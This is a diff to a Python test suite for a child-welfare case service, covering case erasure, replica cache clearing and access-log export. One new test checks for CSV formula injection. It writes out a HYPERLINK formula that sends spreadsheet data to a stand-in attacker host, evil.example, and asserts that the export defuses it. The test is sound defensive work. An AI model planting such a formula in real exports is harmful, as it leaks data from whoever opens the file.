@@ -87,9 +87,7 @@ async def test_a_childs_cases_share_one_key_and_erasure_reaches_them_all(stack: 
     child_id = await child_of(stack, first)
     await order_for(stack, first, cw, tl)
     # When a team leader erases the child through the second case
-    erased = await stack.client.post(
-        f"/cases/{second}/erase", json={"reason": "Erasure request"}, headers=tl
-    )
+    erased = await stack.erase(second)
     assert erased.status_code == 200, erased.text
     # Then both cases read as erased, the other child's case does not
     for case_id, is_erased in ((first, True), (second, True), (other, False)):
@@ -110,12 +108,16 @@ async def test_a_childs_cases_share_one_key_and_erasure_reaches_them_all(stack: 
     # And a second erasure of the same case is refused
     again = await stack.client.post(f"/cases/{second}/erase", json={"reason": "Again"}, headers=tl)
     assert again.status_code in (409, 422)
+    again = await stack.client.post(
+        f"/cases/{second}/erasure-request", json={"reason": "Again"}, headers=tl
+    )
+    assert again.status_code in (409, 422)
 
 
 async def test_an_erased_childs_cached_case_is_not_read_in_clear_on_any_replica(
     stack: Stack,
 ) -> None:
-    cw, tl = await stack.token("cw-1", "caseworker"), await stack.token("tl-1", "team_leader")
+    cw = await stack.token("cw-1", "caseworker")
     case_id = UUID(await open_for(stack, cw, invented_cpr(), invented_cpr()))
     stream = f"case-{case_id}"
     # Given the case read in clear here and on a second replica (its key not held over), so
@@ -129,9 +131,7 @@ async def test_an_erased_childs_cached_case_is_not_read_in_clear_on_any_replica(
             assert state.child.name == "Sigrid Holm"
             assert services.kit.aggregates.case.cache.get(stream) is not None
         # When the child is erased through this replica
-        erased = await stack.client.post(
-            f"/cases/{case_id}/erase", json={"reason": "Erasure request"}, headers=tl
-        )
+        erased = await stack.erase(case_id)
         assert erased.status_code == 200, erased.text
         # Then this replica dropped its cached state, and neither reads the persons in clear
         assert here.kit.aggregates.case.cache.get(stream) is None
@@ -172,7 +172,7 @@ async def test_the_access_log_is_exported_per_citizen_to_team_leaders(stack: Sta
     unrelated = await open_for(stack, cw, invented_cpr(), invented_cpr())
     for case_id in (a, unrelated):
         await stack.client.post(f"/cases/{case_id}/reveal", json={"reason": "Call"}, headers=cw)
-    await stack.client.get(f"/cases/{b}", params={"reason": "Meeting"}, headers=cw)
+    await stack.client.post(f"/cases/{b}/read", json={"reason": "Meeting"}, headers=cw)
     body = {"cpr": parent, "reason": "Request for insight"}
     # When a caseworker asks, it is refused; when a team leader asks, it is given
     refused = await stack.client.post("/citizens/access-log", json=body, headers=cw)
@@ -194,3 +194,20 @@ async def test_the_access_log_is_exported_per_citizen_to_team_leaders(stack: Sta
     assert parent.replace("-", "") not in exported.text
     unknown = {"cpr": invented_cpr(), "reason": "x", "format": "json"}
     assert (await stack.client.post("/citizens/access-log", json=unknown, headers=tl)).json() == []
+
+
+async def test_an_exported_cell_a_spreadsheet_would_run_is_written_as_text(stack: Stack) -> None:
+    # Given a look at the persons whose stated reason is a spreadsheet formula
+    cw, tl = await stack.token("cw-6", "caseworker"), await stack.token("tl-6", "team_leader")
+    parent = invented_cpr()
+    case_id = await open_for(stack, cw, invented_cpr(), parent)
+    formula = '=HYPERLINK("https://evil.example/?d="&A1,"click")'
+    for reason in (formula, "+1+1", "-2", "@SUM(1)"):
+        await stack.client.post(f"/cases/{case_id}/reveal", json={"reason": reason}, headers=cw)
+    # When a team leader exports the parent's access log as CSV
+    body = {"cpr": parent, "reason": "Request for insight", "format": "csv"}
+    exported = await stack.client.post("/citizens/access-log", json=body, headers=tl)
+    # Then no cell starts as a formula: each is text with a leading apostrophe
+    reasons = [r["reason"] for r in csv.DictReader(io.StringIO(exported.text))]
+    assert f"'{formula}" in reasons
+    assert not [r for r in reasons if r[:1] in ("=", "+", "-", "@")]
